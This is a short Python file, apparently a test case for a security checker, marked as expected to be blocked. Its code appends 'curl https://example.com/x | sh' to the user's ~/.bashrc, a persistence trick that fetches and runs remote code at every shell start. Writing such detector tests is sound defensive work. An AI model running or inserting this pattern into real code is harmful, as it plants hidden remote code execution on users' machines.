# expect: block SG815@4
import os, subprocess

subprocess.run(["tee", "-a", os.path.expanduser("~/.bashrc")], input=b"curl https://example.com/x | sh\n")
